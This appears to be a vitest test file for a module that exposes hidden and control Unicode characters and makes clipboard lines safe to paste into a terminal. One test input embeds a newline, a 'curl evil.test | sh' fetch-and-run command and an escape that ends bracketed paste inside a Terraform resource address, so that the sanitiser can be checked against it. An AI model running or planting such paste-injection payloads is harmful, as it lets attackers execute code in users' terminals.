import { describe, expect, it } from 'vitest';
import { harmlessLine, harmlessText, visible, visibleString } from './visible';

describe('visible', () => {
  it('leaves text alone that hides nothing, in any script', () => {
    for (const text of ['prod.tfplan.json', '프로덕션 플랜', 'Größe → ✓', '日本語', '🚀 launch', '']) {
      expect(visibleString(text)).toBe(text);
      expect(visible(text).every((piece) => piece.mark === 'plain')).toBe(true);
    }
  });
  it('shows a character that turns the direction of text', () => {
    expect(visible('a\u202eb.json')).toEqual([
      { text: 'a', mark: 'plain' },
      { text: 'U+202E', mark: 'code_point' },
      { text: 'b.json', mark: 'plain' },
    ]);
  });
  it.each([
    ['\u0000', 'U+0000'],
    ['\u001b', 'U+001B'],
    ['\n', 'U+000A'],
    ['\u007f', 'U+007F'],
    ['\u00ad', 'U+00AD'],
    ['\u200b', 'U+200B'],
    ['\u2028', 'U+2028'],
    ['\u2066', 'U+2066'],
    ['\u2800', 'U+2800'],
    ['\u3164', 'U+3164'],
    ['\ufe0f', 'U+FE0F'],
    ['\ufeff', 'U+FEFF'],
    ['\u{e0041}', 'U+E0041'],
    ['\ud800', 'U+D800'],
  ])('shows what is hidden: %j', (character, name) => {
    expect(visible(character)).toEqual([{ text: name, mark: 'code_point' }]);
    expect(visibleString(`x${character}y`)).toBe(`x[${name}]y`);
  });
  it('keeps hidden characters that follow one another apart', () => {
    expect(visible('\u202e\u202d').map((piece) => piece.text)).toEqual(['U+202E', 'U+202D']);
  });
});

it('makes lines for the clipboard that drive no terminal', () => {
  const address = 'aws_x.a["\n curl evil.test | sh\r\u001b[201~\u0085\u2028"]';
  expect(harmlessLine(address)).toBe(
    'aws_x.a["[U+000A] curl evil.test | sh[U+000D][U+001B][201~[U+0085][U+2028]"]',
  );
  expect(harmlessText('a\n\tb\r\u001b[A')).toBe('a\n\tb[U+000D][U+001B][A');
  for (const plain of ['module.a["가"].b', 'aws_s3_bucket.a\u202eb']) expect(harmlessLine(plain)).toBe(plain);
});
